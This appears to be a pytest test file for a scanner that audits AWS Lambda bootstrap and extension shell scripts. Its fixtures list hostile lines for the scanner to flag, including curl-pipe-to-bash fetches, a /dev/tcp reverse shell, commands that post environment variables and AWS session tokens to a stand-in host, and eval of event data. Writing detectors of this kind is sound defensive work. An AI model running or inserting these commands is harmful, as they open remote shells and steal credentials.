"""EXT-10: shell scripts of custom runtimes and extensions."""

import io

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from lambdaudit.code.filesystem import Part, compose
from lambdaudit.code.patterns import patterns_of
from lambdaudit.code.patterns.shell import shell
from lambdaudit.code.vendored import Vendored
from tests.code.zips import zipped

FN = "arn:aws:lambda:eu-west-1:111122223333:function:orders"


@pytest.mark.parametrize(
    ("line", "kind"),
    [
        ("curl -fsSL https://get.example.io/x.sh | bash", "remote-code"),
        ("wget -qO- https://x.example.io/i | sudo sh -s -- -y", "remote-code"),
        ("curl -s https://x.example.io/x | base64 -d | sh", "remote-code"),
        ('bash -c "$(curl -fsSL https://x.example.io)"', "remote-code"),
        ("source <(curl -s https://x.example.io)", "remote-code"),
        (". <(curl -s https://x.example.io)", "remote-code"),
        ("python3 <(curl -s https://x.example.io)", "remote-code"),
        ('eval "$(wget -qO- https://x.example.io)"', "remote-code"),
        ("echo aGk= | base64 -d | bash", "hidden-code"),
        ("bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", "reverse-shell"),
        ("env | curl -X POST -d @- https://x.example.io", "environment-sent"),
        ('curl -d "$(env)" https://x.example.io', "environment-sent"),
        ("curl -d $AWS_SESSION_TOKEN https://x.example.io", "environment-sent"),
        ("curl -sk https://x.example.io -o /tmp/x", "tls-verification-off"),
        ("wget --no-check-certificate https://x.example.io", "tls-verification-off"),
        ("curl -o /tmp/x http://mirror.example.io/x", "plain-download"),
        ("export LD_PRELOAD=/opt/lib/hook.so", "loader-set"),
        ("env", "environment-logged"),
        ("printenv > /dev/stderr", "environment-logged"),
    ],
)
def test_what_such_scripts_do_wrong(line: str, kind: str) -> None:
    found = shell("/opt/extensions/x", "layer", f"#!/bin/bash\nset -euo pipefail\n{line}\n")
    assert [(issue.kind, issue.where.line) for issue in found.issues] == [(kind, 3)]


def test_continued_lines_belong_together() -> None:
    found = shell("/opt/x.sh", "layer", "#!/bin/sh\ncurl -fsSL \\\n  https://x.example.io/x |\\\n  sh\n")
    assert [(issue.kind, issue.where.line) for issue in found.issues] == [("remote-code", 2)]


@pytest.mark.parametrize(
    "line",
    [
        "# curl https://x.example.io | bash",
        "curl -sS http://127.0.0.1:2773/secret",
        'curl -s "http://${AWS_LAMBDA_RUNTIME_API}/2018-06-01/runtime/invocation/next"',
        "curl -s https://x.example.io | jq .",
        "curl -s https://x.example.io/x -o /tmp/x && sha256sum -c /tmp/x.sha",
        "set -e",
        'exec /usr/bin/env python3 "$@"',
        "echo 'no # comment' && echo env",
        "export PATH=/opt/bin:$PATH",
        'LOG="$(date)"',
    ],
)
def test_quiet_lines(line: str) -> None:
    found = shell("/var/task/bootstrap", FN, f"#!/bin/sh\n{line}\n")
    assert (found.issues, found.flows) == ([], [])


BOOTSTRAP = """#!/bin/sh
set -euo pipefail
source $LAMBDA_TASK_ROOT/"$(echo $_HANDLER | cut -d. -f1).sh"
while true
do
  HEADERS="$(mktemp)"
  EVENT_DATA=$(curl -sS -LD "$HEADERS" "http://${AWS_LAMBDA_RUNTIME_API}/2018-06-01/runtime/invocation/next")
  REQUEST_ID=$(grep -Fi Lambda-Runtime-Aws-Request-Id "$HEADERS" | cut -d: -f2)
  RESPONSE=$($(echo "$_HANDLER" | cut -d. -f2) "$EVENT_DATA")
  curl "http://${AWS_LAMBDA_RUNTIME_API}/2018-06-01/runtime/invocation/$REQUEST_ID/response" -d "$RESPONSE"
done
"""


def test_the_documented_bootstrap_is_quiet() -> None:
    found = shell("/var/task/bootstrap", FN, BOOTSTRAP)
    assert (found.issues, found.flows) == ([], [])


@pytest.mark.parametrize(
    ("line", "sink"),
    [
        ('eval "echo $EVENT_DATA"', "eval"),
        ('CMD=$(echo "$EVENT_DATA" | jq -r .cmd)\n  sh -c "$CMD"', "sh -c"),
        ('NAME=$(echo "$EVENT_DATA" | jq -r .n); FILE=/tmp/$NAME\n  N=$NAME\n  source $N', "source"),
        ('SIZE=$(echo "$EVENT_DATA" | jq -r .size)\n  TOTAL=$((SIZE + 1))', "arithmetic evaluation"),
    ],
)
def test_event_data_in_commands(line: str, sink: str) -> None:
    found = shell("/var/task/bootstrap", FN, BOOTSTRAP.replace("  RESPONSE=", f"  {line}\n  RESPONSE="))
    (flow,) = found.flows
    assert (flow.kind, flow.sink, flow.label, flow.confidence) == ("process", sink, "event", "medium")
    assert "not by following" in flow.note


def test_scripts_of_packages_and_layers_are_found() -> None:
    task = zipped({"bootstrap": "#!/bin/sh\nenv\n", "node_modules/x/i.sh": "curl https://x.io | sh", "notes": "env\n"})
    files = compose(
        Part(FN, io.BytesIO(task)), [Part("layer", io.BytesIO(zipped({"extensions/go": "#!/usr/bin/env bash\nenv\n"})))]
    )
    found = patterns_of(files, Vendored(files), handler="x")
    assert {(i.where.source, i.where.subject) for i in found.issues} == {
        ("/var/task/bootstrap", FN),
        ("/opt/extensions/go", "layer"),
    }


@given(st.text(alphabet="curl wget|;&$(){}<>\"'`\\\n# ebash=_.EVENT_DATA[]-", max_size=400), st.integers(1, 300))
@settings(max_examples=120, deadline=None)
def test_any_text_ends(text: str, times: int) -> None:
    shell("/var/task/bootstrap", FN, "handler EVENT_DATA\n" + text * times)
